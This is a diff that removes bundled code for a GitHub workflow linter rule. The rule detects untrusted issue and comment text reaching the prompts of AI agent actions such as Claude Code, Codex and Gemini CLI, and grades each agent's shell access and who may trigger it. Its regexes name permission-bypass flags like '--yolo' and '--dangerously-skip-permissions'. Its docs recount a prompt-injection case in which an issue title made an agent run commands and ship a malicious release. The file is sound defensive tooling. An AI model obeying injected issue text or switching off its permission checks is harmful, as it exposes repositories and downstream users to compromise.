-      { file: "action.yml", commit: "8208cd1dcb43ec256c6d3ac42f343998dccabd55" },
-      { file: "src/parse-sdk-options.ts", commit: "433d8156ab8f2c9ea48f770fbe8b97f9b5438006" },
-      { file: "src/run-claude.ts", commit: "03d620fb6efba6b8a805f4ad6b03213048e58524" }
-    ]
-  },
-  {
-    action: "openai/codex-action",
-    // v1 spelt some inputs with underscores (`codex_args`, `safety_strategy`, `allow_bots`) and could skip its
-    // write-access check with `require_repo_write: false`.
-    promptInputs: ["prompt", "codex-args", "codex_args"],
-    openAccessInputs: ["allow-users", "allow-bots", "allow-bot-users", "allow_bots", "require_repo_write"],
-    toolInputs: ["sandbox", "safety-strategy", "safety_strategy", "codex-args", "codex_args", "permission-profile"],
-    gated: true,
-    tools: "limited",
-    toolsWhy: "by default it runs commands in a workspace sandbox",
-    tagMode: false,
-    sources: [
-      { file: "action.yml", commit: "0006efa62261ffd5c7bb5131ff06a84cf849ed1c" },
-      { file: "action.yml", commit: "c25c0044c719c55ce70bd35625ff9d40c8e199bc" },
-      { file: "src/checkActorPermissions.ts", commit: "2ab995e616515d214e6bbff0c66310822251d673" }
-    ]
-  },
-  {
-    action: "google-github-actions/run-gemini-cli",
-    promptInputs: ["prompt"],
-    openAccessInputs: [],
-    toolInputs: ["settings"],
-    gated: false,
-    tools: "shell",
-    toolsWhy: "it runs `gemini --yolo`, which approves every tool, `run_shell_command` included, unless `settings` lists the core tools or excludes `run_shell_command`",
-    tagMode: false,
-    sources: [
-      { file: "action.yml", commit: "8625910245fcc63a80f91cb677009073a5e13459" },
-      { file: "action.yml", commit: "0434cc5d3ee434057dab5ad830056a46906e886d" },
-      { file: "google-gemini/gemini-cli:docs/cli/configuration.md", commit: "175b3a1f3b3a9719b59d154baacf483b2e477c2b" },
-      { file: "google-gemini/gemini-cli:docs/trust-guidance.md", commit: "27a6f892f1ddfc1a58d6effb9cb0a78554bdfc49" }
-    ]
-  },
-  {
-    action: "actions/ai-inference",
-    promptInputs: ["prompt", "system-prompt"],
-    openAccessInputs: [],
-    toolInputs: ["enable-github-mcp"],
-    gated: false,
-    tools: "none",
-    toolsWhy: "it only returns text",
-    tagMode: false,
-    sources: [{ file: "action.yml", commit: "6d144ac4747eb0bccee71c4746c3029357be1633" }]
-  },
-  { action: "github/copilot-swe-agent", promptInputs: ["prompt"], openAccessInputs: [], toolInputs: [], gated: false, tools: "shell", toolsWhy: SHELL_AGENT, tagMode: false, sources: [] },
-  {
-    action: "warpdotdev/warp-agent-action",
-    promptInputs: ["prompt"],
-    openAccessInputs: [],
-    toolInputs: [],
-    gated: false,
-    tools: "shell",
-    toolsWhy: SHELL_AGENT,
-    tagMode: false,
-    sources: [
-      { file: "action.yml", commit: "0362b73c621875dd1d45f1ef9a4f5c0447dcd7cf" },
-      { file: "src/index.ts", commit: "25615cf7b4b369d6e7657c2b73695e5075d4722b" },
-      { file: "README.md", commit: "0445aa77ed3568d78d02869ea16146c40d7d86f2" }
-    ]
-  },
-  { action: "cursor/cursor-agent-action", promptInputs: ["prompt"], openAccessInputs: [], toolInputs: [], gated: false, tools: "shell", toolsWhy: SHELL_AGENT, tagMode: false, sources: [] }
-];
-function agentActionFor(owner, repo, path) {
-  return findAction(AGENT_ACTIONS, owner, repo, path);
-}
-
-// server/src/knowledge/agents/readings.ts
-function withValue(step, name) {
-  const entry = step.with.entries.find((candidate) => candidate.key.toLowerCase() === name.toLowerCase());
-  if (!entry) return null;
-  const text = scalarText(entry.value);
-  return text === null ? null : { text, entry };
-}
-function quoteList(items) {
-  return items.map((item) => `\`${item}\``).join(", ");
-}
-function readingOf(effect) {
-  return { effects: effect ? [effect] : [] };
-}
-function genericEffect(name, key, text, span) {
-  const input2 = `\`${key}\``;
-  if (/--dangerously-skip-permissions|bypassPermissions|--dangerously-bypass-approvals-and-sandbox|--yolo\b|"yolo"\s*:\s*true/i.test(text)) return { level: "shell", why: `${input2} turns off permission checks`, span, bypass: true };
-  if (/danger-full-access/i.test(text)) return { level: "shell", why: `${input2} is \`danger-full-access\``, span };
-  if ((name === "safety-strategy" || name === "safety_strategy") && /^\s*unsafe\s*$/i.test(text)) return { level: "shell", why: `\`${key}: unsafe\``, span };
-  if (/\bBash\b(?!\s*\()|\bBash\(\s*(?:\*\s*)?\)|\brun_shell_command\b(?!\s*\()|"ShellTool"/.test(text)) return { level: "shell", why: `${input2} allows any shell command (\`Bash\`)`, span, shellTool: true };
-  if (/\bBash\s*\(|\brun_shell_command\s*\(/.test(text)) return { level: "limited", why: `${input2} allows some shell commands`, span, shellTool: true };
-  if (/\b(Write|Edit|MultiEdit)\b|\bacceptEdits\b|workspace-write|enable-github-mcp|^\s*true\s*$/.test(text)) return { level: "limited", why: `${input2} allows tools`, span };
-  return null;
-}
-function namedUsersWhy(shown, text) {
-  const entries = text.split(",").map((user) => user.trim()).filter((user) => user !== "");
-  const users = entries.filter((user) => user !== "*");
-  const who = users.length === 0 ? "lets no one" : `lets only ${users.length === 1 ? "the user" : "the users"} ${quoteList(users)}`;
-  const wildcardLike = entries.includes("*") || users.some((user) => /^(all|everyone|anyone)$/i.test(user));
-  return `${shown} ${who} skip the write-access check; everyone else still needs write access${wildcardLike ? " (only the whole value `'*'` means everyone)" : ""}`;
-}
-
-// server/src/knowledge/agents/settings-json.ts
-function jsonObject(text) {
-  const trimmed = text.trim();
-  if (!trimmed.startsWith("{")) return null;
-  try {
-    const value = JSON.parse(replaceExpressionFences(trimmed, "0"));
-    return value !== null && typeof value === "object" && !Array.isArray(value) ? value : null;
-  } catch {
-    return null;
-  }
-}
-function objectAt(value) {
-  return value !== null && typeof value === "object" && !Array.isArray(value) ? value : null;
-}
-function stringsAt(value) {
-  return Array.isArray(value) ? value.filter((item) => typeof item === "string").map((item) => item.trim()) : null;
-}
-function valueAfterKey(text, key, opener) {
-  const needle = `"${key}"`;
-  for (let at = text.indexOf(needle); at !== -1; at = text.indexOf(needle, at + 1)) {
-    let i = at + needle.length;
-    while (i < text.length && /\s/.test(text[i])) i++;
-    if (text[i] !== ":") continue;
-    i++;
-    while (i < text.length && /\s/.test(text[i])) i++;
-    if (text[i] === opener) return i + 1;
-  }
-  return -1;
-}
-function looseList(text, key) {
-  const start = valueAfterKey(text, key, "[");
-  if (start === -1) return null;
-  const close = text.indexOf("]", start);
-  if (close === -1) return null;
-  return quotedStrings(text.slice(start, close)).map((item) => item.trim());
-}
-var isLineBreak = (ch) => ch === "\n" || ch === "\r" || ch === "\u2028" || ch === "\u2029";
-function quotedStrings(text) {
-  const found = [];
-  let from = 0;
-  for (; ; ) {
-    const open = text.indexOf('"', from);
-    if (open === -1) return found;
-    let i = open + 1;
-    while (i < text.length && text[i] !== '"') {
-      if (text[i] !== "\\") i++;
-      else if (i + 1 < text.length && !isLineBreak(text[i + 1])) i += 2;
-      else break;
-    }
-    if (i < text.length && text[i] === '"') {
-      found.push(text.slice(open + 1, i));
-      from = i + 1;
-    } else {
-      from = Math.max(i, open + 1);
-    }
-  }
-}
-function looseString(text, key) {
-  const start = valueAfterKey(text, key, '"');
-  if (start === -1) return null;
-  const close = text.indexOf('"', start);
-  return close === -1 ? null : text.slice(start, close);
-}
-
-// server/src/knowledge/agents/claude.ts
-var CLAUDE_ACTIONS = /* @__PURE__ */ new Set(["anthropics/claude-code-action", "anthropics/claude-code-base-action"]);
-function shellWords(text) {
-  const words2 = [];
-  let word = "";
-  let started = false;
-  let quote2 = null;
-  for (const ch of text) {
-    if (quote2 !== null) {
-      if (ch === quote2) quote2 = null;
-      else word += ch;
-    } else if (ch === '"' || ch === "'") {
-      quote2 = ch;
-      started = true;
-    } else if (/\s/.test(ch)) {
-      if (started) words2.push(word);
-      word = "";
-      started = false;
-    } else {
-      word += ch;
-      started = true;
-    }
-  }
-  if (started) words2.push(word);
-  return words2;
-}
-var COMMENT_LINE = /^[ \t]*#.*$/gm;
-function closingQuote(text, open) {
-  const quote2 = text[open];
-  for (let i = open + 1; i < text.length; i++) {
-    if (text[i] === "\\" && text[i + 1] === quote2) i++;
-    else if (text[i] === quote2) return i;
-  }
-  return -1;
-}
-function shellQuoteWords(text) {
-  const source = text.replace(COMMENT_LINE, (line) => " ".repeat(line.length));
-  const words2 = [];
-  let word = "";
-  let start = -1;
-  let glob = false;
-  const finish = (at, beforeParen = false) => {
-    if (start >= 0 && !glob) words2.push({ text: word, end: at, beforeParen });
-    word = "";
-    start = -1;
-    glob = false;
-  };
-  for (let i = 0; i < source.length; i++) {
-    const ch = source[i];
-    if (source.startsWith("${{", i)) {
-      const close = source.indexOf("}}", i);
-      const stop = close < 0 ? source.length : close + 2;
-      if (start < 0) start = i;
-      word += source.slice(i, stop);
-      i = stop - 1;
-    } else if (/\s/.test(ch)) finish(i);
-    else if ("|&;()<>".includes(ch)) finish(i, ch === "(");
-    else if (ch === "#") {
-      finish(i);
-      break;
-    } else if (ch === '"' || ch === "'") {
-      const close = closingQuote(source, i);
-      if (close < 0) continue;
-      if (start < 0) start = i;
-      const inner = source.slice(i + 1, close);
-      word += ch === "'" ? inner : inner.replace(/\\(["\\$])/g, "$1");
-      i = close;
-    } else {
-      if (start < 0) start = i;
-      if (ch === "\\") {
-        const next = source[i + 1];
-        if (next === void 0 || next === "\n" || next === "\r") continue;
-        if (next === "*" || next === "?") glob = true;
-        word += next;
-        i++;
-      } else {
-        if (ch === "*" || ch === "?") glob = true;
-        word += ch;
-      }
-    }
-  }
-  finish(source.length);
-  return words2;
-}
-function toolList(values) {
-  const tools = [];
-  for (const value of values) {
-    let depth = 0;
-    let current = "";
-    for (const ch of value) {
-      if (ch === "(") depth++;
-      else if (ch === ")") depth = Math.max(0, depth - 1);
-      if (depth === 0 && (ch === "," || /\s/.test(ch))) {
-        if (current.trim()) tools.push(current.trim());
-        current = "";
-      } else current += ch;
-    }
-    if (current.trim()) tools.push(current.trim());
-  }
-  return tools;
-}
-var BARE_BASH = /^Bash(\(\s*(?:\*\s*)?\))?$/;
-function readClaudeSettings(key, text, span) {
-  const settings = jsonObject(text);
-  const loose = settings === null && text.trim().startsWith("{");
-  if (!settings && !loose) return { effects: [] };
-  const permissions = settings ? objectAt(settings.permissions) : null;
-  const allow = (settings ? stringsAt(permissions?.allow) : looseList(text, "allow")) ?? [];
-  const deny = (settings ? stringsAt(permissions?.deny) : looseList(text, "deny")) ?? [];
-  const modeValue = settings ? permissions?.defaultMode : looseString(text, "defaultMode");
-  const mode = typeof modeValue === "string" ? modeValue : null;
-  const input2 = `\`${key}\``;
-  const effects = [];
-  const anyBash = allow.filter((tool) => BARE_BASH.test(tool));
-  const someBash = allow.filter((tool) => /^Bash\s*\(/.test(tool) && !BARE_BASH.test(tool));
-  const edits = allow.filter((tool) => /^(Write|Edit|MultiEdit|NotebookEdit)\b/.test(tool));
-  if (anyBash.length > 0) effects.push({ level: "shell", why: `${input2} allows any shell command (${quoteList(anyBash)} in \`permissions.allow\`)`, span, shellTool: true });
-  if (someBash.length > 0) effects.push({ level: "limited", why: `${input2} allows some shell commands (${quoteList(someBash)} in \`permissions.allow\`)`, span, shellTool: true });
-  if (edits.length > 0) effects.push({ level: "limited", why: `${input2} allows file edits (${quoteList(edits)} in \`permissions.allow\`)`, span });
-  if (mode === "bypassPermissions") effects.push({ level: "shell", why: `${input2} sets \`permissions.defaultMode: bypassPermissions\`, which turns off permission checks`, span, bypass: true });
-  else if (mode === "acceptEdits") effects.push({ level: "limited", why: `${input2} sets \`permissions.defaultMode: acceptEdits\`, which approves file edits`, span });
-  const deniedBash = deny.find((tool) => BARE_BASH.test(tool));
-  const shellDenied = deniedBash ? { why: `${input2} denies \`${deniedBash}\` (\`permissions.deny\`)`, span, left: ", so it runs no shell command" } : void 0;
-  return { effects, shellDenied };
-}
-function claudeArgsSplit(ref2) {
-  const name = (ref2 ?? "").trim();
-  if (/^(v1|main)$/i.test(name)) return "keeps";
-  if (/^(v0(\.\d+)*|beta)$/i.test(name)) return "drops";
-  const version2 = /^v?(\d+)\.(\d+)\.(\d+)$/.exec(name);
-  if (!version2) return "unknown";
-  const [major, minor, patch] = version2.slice(1).map(Number);
-  return major > 1 || major === 1 && (minor > 0 || patch >= 149) ? "keeps" : "drops";
-}
-function cutBash(text, word) {
-  if (!word.beforeParen || word.text.split(",").pop().trim() !== "Bash") return null;
-  const close = text.indexOf(")", word.end);
-  const lineEnd = text.indexOf("\n", word.end);
-  const stop = close >= 0 && (lineEnd < 0 || close < lineEnd) ? close + 1 : word.end + 1;
-  return `Bash${text.slice(word.end, stop)}`;
-}
-function plainBareBash(word) {
-  const tools = word.text.split(",");
-  return tools.some((tool, index) => BARE_BASH.test(tool.trim()) && !(word.beforeParen && index === tools.length - 1));
-}
-function splitDenied(words2, emptyEndsFlag) {
-  const kept = [];
-  const denied = [];
-  const inline = [];
-  for (let i = 0; i < words2.length; i++) {
-    const match = /^--disallowed-?tools(?:=(.*))?$/i.exec(words2[i]);
-    if (!match) {
-      kept.push(i);
-      continue;
-    }
-    if (match[1] !== void 0) inline.push(match[1]);
-    else if (emptyEndsFlag && words2[i + 1] === "") continue;
-    else while (i + 1 < words2.length && !words2[i + 1].startsWith("--")) denied.push(++i);
-  }
-  return { kept, denied, inline };
-}
-function readClaudeArgs(name, key, text, span, ref2) {
-  const split = claudeArgsSplit(ref2);
-  const at = ref2 ? `\`@${ref2}\`` : "this reference";
-  const dropped = shellQuoteWords(text);
-  const droppedParts = splitDenied(dropped.map((word) => word.text), true);
-  const cutAllowed = droppedParts.kept.map((index) => cutBash(text, dropped[index])).filter((tool) => tool !== null);
-  if (split === "drops") {
-    const kept = droppedParts.kept.map((index) => dropped[index]);
-    const denied2 = droppedParts.denied.map((index) => dropped[index]);
-    let effect2 = genericEffect(name, key, kept.map((word) => word.text).join(" "), span);
-    if (effect2?.shellTool && effect2.level === "shell" && cutAllowed.length > 0 && !kept.some(plainBareBash)) {
-      effect2 = {
-        ...effect2,
-        why: `\`${key}\` allows any shell command: releases before v1.0.149 (this step uses ${at}) split \`claude_args\` like a shell and drop unquoted parentheses, so ${quoteList(cutAllowed)} reaches Claude as a bare \`Bash\`; write it quoted, \`"${cutAllowed[0]}"\``
-      };
-    }
-    const deniedBash2 = toolList([...denied2.map((word) => word.text), ...droppedParts.inline]).find((tool) => BARE_BASH.test(tool));
-    let shellDenied2;
-    if (deniedBash2) {
-      const cut = denied2.map((word) => cutBash(text, word)).filter((tool) => tool !== null);
-      const why = cut.length > 0 && !denied2.some(plainBareBash) && !droppedParts.inline.some((value) => toolList([value]).some((tool) => BARE_BASH.test(tool))) ? `\`${key}\` denies \`Bash\` (\`--disallowedTools\`): releases before v1.0.149 (this step uses ${at}) drop the unquoted parentheses of ${quoteList(cut)}, so the whole shell is denied` : `\`${key}\` denies \`${deniedBash2}\` (\`--disallowedTools\`)`;
-      shellDenied2 = { why, span, left: ", so it runs no shell command" };
-    }
-    return { effects: effect2 ? [effect2] : [], shellDenied: shellDenied2 };
-  }
-  const uncommented = text.replace(COMMENT_LINE, "");
-  const words2 = shellWords(uncommented);
-  const parts = splitDenied(words2, false);
-  const denied = [...parts.denied.map((index) => words2[index]), ...parts.inline];
-  let effect = genericEffect(name, key, denied.length === 0 ? uncommented : parts.kept.map((index) => words2[index]).join(" "), span);
-  if (split === "unknown" && effect?.shellTool && effect.level === "limited" && cutAllowed.length > 0) {
-    effect = {
-      ...effect,
-      why: `${effect.why}, but ${at} cannot be dated: releases before v1.0.149 drop the unquoted parentheses of ${quoteList(cutAllowed)} and so allow any shell command; write it quoted, \`"${cutAllowed[0]}"\``
-    };
-  }
-  const deniedBash = toolList(denied).find((tool) => BARE_BASH.test(tool));
-  const shellDenied = deniedBash ? { why: `\`${key}\` denies \`${deniedBash}\` (\`--disallowedTools\`)`, span, left: ", so it runs no shell command" } : void 0;
-  return { effects: effect ? [effect] : [], shellDenied };
-}
-function readClaudeToolInput(name, key, text, span, ref2) {
-  if (name === "settings") return readClaudeSettings(key, text, span);
-  if (name === "claude_args") return readClaudeArgs(name, key, text, span, ref2);
-  return null;
-}
-function readClaudeNonWriteUsers(step, key, text, span) {
-  const token = withValue(step, "github_token");
-  if (token === null || token.text.trim() === "") return null;
-  if (text === "*") return { open: true, why: `\`${key}: '*'\` with \`github_token\` given lets anyone trigger it`, span };
-  if (text !== "" && !text.includes("${{")) return { open: false, why: namedUsersWhy(`\`${key}: ${text}\` with \`github_token\` given`, text), span };
-  return null;
-}
-
-// server/src/knowledge/agents/codex.ts
-var CODEX_ACTION = "openai/codex-action";
-function readCodexProfile(key, text, span, home) {
-  const profile = text.trim();
-  if (profile === "" || profile.includes("${{")) return { effects: [] };
-  const shown = `\`${key}: '${profile}'\``;
-  if (profile === ":read-only") return { base: { level: "none", why: `${shown} lets the commands it runs read files but not write them or reach the network`, span }, effects: [] };
-  if (profile === ":workspace") return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
-  if (profile === ":danger-full-access" || profile === ":danger-no-sandbox") return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
-  const where = home && home.trim() !== "" && !home.includes("${{") ? `\`${trimEndOf(home.trim(), "/")}/config.toml\` (\`codex-home\`)` : "the Codex home's `config.toml`";
-  return { effects: [{ level: "limited", why: `${shown} is a profile defined in ${where}, which this check cannot read: it decides what the commands may do`, span }] };
-}
-var CODEX_READ_ONLY_STRATEGY = { "safety-strategy": "read-only", safety_strategy: "read_only" };
-function codexReadOnlyStrategy(step) {
-  return Object.entries(CODEX_READ_ONLY_STRATEGY).some(([name, value]) => withValue(step, name)?.text.trim() === value);
-}
-function readCodexSafety(name, key, text, span) {
-  if (text.trim() === CODEX_READ_ONLY_STRATEGY[name]) {
-    const why = `\`${key}: ${text.trim()}\` runs Codex in a read-only sandbox whatever \`sandbox\` says: its commands read files but cannot write them or reach the network (the action warns that Codex keeps the runner's sudo and could print \`openai-api-key\`)`;
-    return { base: { level: "none", why, span }, effects: [] };
-  }
-  return readingOf(genericEffect(name, key, text, span));
-}
-function readCodexSandbox(step, key, text, span) {
-  if (codexReadOnlyStrategy(step)) return { effects: [] };
-  const mode = text.trim();
-  const shown = `\`${key}: ${mode}\``;
-  if (mode === "read-only") return { base: { level: "none", why: `${shown} lets the commands it runs read files but not write them or reach the network`, span }, effects: [] };
-  if (mode === "workspace-write") return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
-  if (mode === "danger-full-access") return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
-  return readingOf(genericEffect("sandbox", key, text, span));
-}
-function readCodexToolInput(step, name, key, text, span) {
-  if (name === "permission-profile") return readCodexProfile(key, text, span, withValue(step, "codex-home")?.text ?? null);
-  if (name === "safety-strategy" || name === "safety_strategy") return readCodexSafety(name, key, text, span);
-  if (name === "sandbox") return readCodexSandbox(step, key, text, span);
-  return null;
-}
-function codexBotsWhy(name, key, text, ref2) {
-  const minor = /^v?1\.(\d+)(?:\.\d+)*$/.exec(ref2 ?? "")?.[1];
-  const anyBot = "lets any account whose login ends in `[bot]` (GitHub Apps, Dependabot) skip the write-access check";
-  if (name === "allow_bots") return `\`${key}: ${text}\` ${anyBot}`;
-  if (minor !== void 0 && Number(minor) < 7) return `\`${key}: ${text}\` ${anyBot} (openai/codex-action before v1.7)`;
-  return `\`${key}: ${text}\` lets only \`github-actions[bot]\` (events made by this repository's own workflows) skip the write-access check; other bots still need write access (releases before v1.7 let any \`[bot]\` account through)`;
-}
-var CODEX_ACCESS_INPUTS = /* @__PURE__ */ new Set(["require_repo_write", "allow-users", "allow-bots", "allow_bots", "allow-bot-users"]);
-function readCodexAccess(name, key, text, span, ref2) {
-  if (name === "require_repo_write") {
-    return /^false$/i.test(text) ? { open: true, why: `\`${key}: ${text}\` lets anyone trigger it`, span } : null;
-  }
-  if (name === "allow-users") {
-    if (text === "*") return { open: true, why: `\`${key}: '*'\` lets anyone trigger it`, span };
-    if (text !== "" && !text.includes("${{")) return { open: false, why: namedUsersWhy(`\`${key}: ${text}\``, text), span };
-    return null;
-  }
-  if (name === "allow-bots" || name === "allow_bots") {
-    return /^(true|1|yes|y)$/i.test(text) ? { open: false, why: codexBotsWhy(name, key, text, ref2), span } : null;
-  }
-  if (name === "allow-bot-users" && text !== "") {
-    const bots = text.split(",").map((bot) => bot.trim()).filter((bot) => bot !== "");
-    const why = text.includes("*") ? `\`${key}: '${text}'\` is refused by the action: its write-access check then rejects every run` : `\`${key}: ${text}\` lets the bots ${quoteList(bots)} skip the write-access check`;
-    return { open: false, why, span };
-  }
-  return null;
-}
-
-// server/src/knowledge/agents/gemini.ts
-var GEMINI_ACTION = "google-github-actions/run-gemini-cli";
-var BARE_GEMINI_SHELL = /^(run_shell_command|ShellTool)$/;
-var GEMINI_SHELL_PREFIX = /^(run_shell_command|ShellTool)\s*\(/;
-function readGeminiSettings(key, text, span) {
-  const settings = jsonObject(text);
-  if (!settings && !text.trim().startsWith("{")) return { effects: [] };
-  const tools = settings ? objectAt(settings.tools) : null;
-  const coreFlat = settings ? stringsAt(settings.coreTools) : looseList(text, "coreTools");
-  const coreNested = settings ? stringsAt(tools?.core) : looseList(text, "core");
-  const core = coreFlat ?? coreNested;
-  const coreKey = coreFlat ? "coreTools" : "tools.core";
-  const excluded = [
-    ...(settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools")) ?? [],
-    ...(settings ? stringsAt(tools?.exclude) : looseList(text, "exclude")) ?? []
-  ];
-  const input2 = `\`${key}\``;
-  const reading = { effects: [] };
-  if (core) {
-    reading.base = { level: "limited", why: `${input2} limits its core tools (\`${coreKey}\`)`, span };
-    const anyShell = core.filter((tool) => BARE_GEMINI_SHELL.test(tool));
-    const someShell = core.filter((tool) => GEMINI_SHELL_PREFIX.test(tool));
-    if (anyShell.length > 0) reading.effects.push({ level: "shell", why: `${input2} lists ${quoteList(anyShell)} among its core tools (\`${coreKey}\`): any shell command`, span, shellTool: true });
-    else if (someShell.length > 0) reading.effects.push({ level: "limited", why: `${input2} allows some shell commands (${quoteList(someShell)} in \`${coreKey}\`)`, span, shellTool: true });
-  }
-  const excludedShell = excluded.find((tool) => BARE_GEMINI_SHELL.test(tool));
-  if (excludedShell) {
-    const flatExcluded = settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools");
-    const where = flatExcluded?.includes(excludedShell) ? "excludeTools" : "tools.exclude";
-    reading.shellDenied = { why: `${input2} excludes \`${excludedShell}\` (\`${where}\`)`, span, left: ", but `gemini --yolo` still approves its other tools, file writes included" };
-  }
-  return reading;
-}
-
-// server/src/knowledge/agents/index.ts
-function readToolInput(step, action, ref2, name, key, text, span) {
-  let reading = null;
-  if (CLAUDE_ACTIONS.has(action)) reading = readClaudeToolInput(name, key, text, span, ref2);
-  else if (action === GEMINI_ACTION && name === "settings") reading = readGeminiSettings(key, text, span);
-  else if (action === CODEX_ACTION) reading = readCodexToolInput(step, name, key, text, span);
-  return reading ?? readingOf(genericEffect(name, key, text, span));
-}
-var RANK2 = { none: 0, limited: 1, shell: 2 };
-function agentTools(step, agent, ref2) {
-  let tools = agent.tools;
-  let toolsWhy = agent.toolsWhy;
-  let toolsSpan = null;
-  let raised = false;
-  const readings = [];
-  for (const name of agent.toolInputs) {
-    const value = withValue(step, name);
-    if (value) readings.push(readToolInput(step, agent.action, ref2, name, value.entry.key, value.text, value.entry.valueSpan));
-  }
-  for (const reading of readings) {
-    if (!reading.base) continue;
-    tools = reading.base.level;
-    toolsWhy = reading.base.why;
-    toolsSpan = reading.base.span;
-  }
-  const shellDenied = readings.find((reading) => reading.shellDenied)?.shellDenied;
-  for (const effect of readings.flatMap((reading) => reading.effects)) {
-    let { level, why } = effect;
-    if (shellDenied && effect.shellTool) continue;
-    if (shellDenied && effect.bypass && level === "shell") {
-      level = "limited";
-      why = `${why}, but ${shellDenied.why}`;
-    }
-    if (RANK2[level] > RANK2[tools] || !raised && RANK2[level] === RANK2[tools] && level !== "none") {
-      tools = level;
-      toolsWhy = why;
-      toolsSpan = effect.span;
-      raised = true;
-    }
-  }
-  if (shellDenied && tools === "shell") {
-    tools = "limited";
-    toolsWhy = `${shellDenied.why}${shellDenied.left}`;
-    toolsSpan = shellDenied.span;
-  }
-  return { tools, toolsWhy, toolsSpan };
-}
-function readAccessInput(step, action, ref2, name, key, text, span) {
-  if (name === "require_repo_write" || action === CODEX_ACTION && CODEX_ACCESS_INPUTS.has(name)) return readCodexAccess(name, key, text, span, ref2);
-  if (name === "allowed_non_write_users") return readClaudeNonWriteUsers(step, key, text, span);
-  if (!/bot/i.test(name) && text === "*") return { open: true, why: `\`${key}: '${text}'\` lets anyone trigger it`, span };
-  if (/bot/i.test(name) && /^(\*|true)$/i.test(text)) return { open: false, why: `\`${key}: ${text}\` lets any bot trigger it`, span };
-  return null;
-}
-function agentAccess(step, agent, ref2) {
-  let open = false;
-  let openWhy = "";
-  let openSpan = null;
-  for (const name of agent.openAccessInputs) {
-    const value = withValue(step, name);
-    if (!value) continue;
-    const effect = readAccessInput(step, agent.action, ref2, name, value.entry.key, value.text.trim(), value.entry.valueSpan);
-    if (!effect || !effect.open && open) continue;
-    open ||= effect.open;
-    openWhy = effect.why;
-    openSpan = effect.span;
-  }
-  return { open, openWhy, openSpan };
-}
-
-// server/src/rules/ai-agent-injection.ts
-var OUTSIDER_TRIGGERS_NOTE = "issues, comments, pull requests, reviews and discussions";
-function agentFacts(step, agent, repository, ref2, file, job) {
-  const { tools, toolsWhy, toolsSpan } = agentTools(step, agent, ref2);
-  const access = agentAccess(step, agent, ref2);
-  let { open, openWhy } = access;
-  if (!agent.gated && !open && !guardedByCondition(step, job)) {
-    const triggers = scopeTriggers(file);
-    if (triggers && triggers.some((trigger) => triggerInfo(trigger)?.outsiderCanFire)) {
-      open = true;
-      openWhy = `${repository} does not check the permissions of whoever triggers it, and no \`if:\` does`;
-    }
-  }
-  return { agent, repository, tools, toolsWhy, toolsSpan, open, openWhy, openSpan: access.openSpan };
-}
-function guardedByCondition(step, job) {
-  const texts = [scalarText(step.if?.value ?? null), scalarText(job?.if?.value ?? null)];
-  return texts.some((text) => text !== null && /author_association|\.actor\b|triggering_actor|sender\.login|user\.login|\.labels?\b|label\.name/i.test(text));
-}
-function severityFor(facts) {
-  if (facts.tools === "shell") return "high";
-  if (facts.tools === "limited") return facts.open ? "high" : "medium";
-  return "low";
-}
-function lower(confidence) {
-  return confidence === "high" ? "medium" : "low";
-}
-function related(facts) {
-  const out = [];
-  if (facts.toolsSpan) out.push({ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` });
-  if (facts.openSpan) out.push({ span: facts.openSpan, message: `Who may trigger the agent: ${facts.openWhy}` });
-  return out;
-}
-function aggravation(facts) {
-  const parts = [];
-  if (facts.tools !== "none") parts.push(facts.toolsWhy);
-  else parts.push(`${facts.repository} only returns text, so an attacker steers its output`);
-  if (facts.open) parts.push(facts.openWhy);
-  return parts.join("; ");
-}
-var READS_EVENT_TEXT = /\b(issue|pull request|PR|comment|discussion|review)s?\b/i;
-var aiAgentInjection = {
-  id: "ai-agent-injection",
-  title: "Untrusted text in the prompt of an AI agent",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "Text that outsiders write (issue or pull request titles and bodies, comments, reviews, discussions, branch names) reaches the prompt of an AI agent action such as `anthropics/claude-code-action`, `openai/codex-action` or `google-github-actions/run-gemini-cli`.",
-    why: "A model cannot tell the workflow author's instructions from instructions hidden in the text it is given. In Cline (2026), an `issues` workflow passed the issue title to `claude-code-action`, open to non-writers and allowed to run `Bash`; an issue title told the agent to run commands, which poisoned a cache used by the nightly publish and shipped a malicious `cline` release.",
-    fix: "Do not put outsider text in the prompt: have the agent read it through a read-only tool, keep the agent to read-only tools (no `Bash`, no `danger-full-access`), keep the default write-access check (no `allowed_non_write_users: '*'`), and give the job `permissions:` no wider than the agent needs, with no secrets other than the model key."
-  },
-  check({ file, report }) {
-    const reportedSteps = /* @__PURE__ */ new Set();
-    const factsCache = /* @__PURE__ */ new Map();
-    const factsOf = (step, job) => {
-      if (factsCache.has(step)) return factsCache.get(step);
-      const uses = scalarText(step.uses?.value ?? null);
-      let facts = null;
-      if (uses) {
-        const reference = parseUses(uses);
-        if (reference.kind === "remote") {
-          const agent = agentActionFor(reference.owner, reference.repo, reference.subpath);
-          if (agent) facts = agentFacts(step, agent, reference.repository, reference.ref, file, job);
-        }
-      }
-      factsCache.set(step, facts);
-      return facts;
-    };
-    const base2 = file.workflow ? 4 : 3;
-    for (const site of file.expressions) {
-      const path = site.path;
-      if (path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
-      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
-      const scope = scopeOf(file, path);
-      const step = scope.step;
-      if (!step) continue;
-      const facts = factsOf(step, scope.job);
-      if (!facts) continue;
-      const input2 = String(path[base2 + 1]);
-      if (!facts.agent.promptInputs.includes(input2.toLowerCase())) continue;
-      for (const leaf of assessSite(site, scope)) {
-        const verdict2 = leaf.verdict;
-        if (verdict2.capability !== "arbitrary" || verdict2.severity !== "high" && verdict2.severity !== "medium") continue;
-        reportedSteps.add(step);
-        reportLeaf(leaf, input2, facts, scope.triggers !== null);
-      }
-    }
-    function reportLeaf(leaf, input2, facts, knownTriggers) {
-      const verdict2 = leaf.verdict;
-      const outsider = verdict2.severity === "high";
-      const severity = outsider ? severityFor(facts) : "low";
-      const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
-      report({
-        span: { start: leaf.start, end: leaf.end },
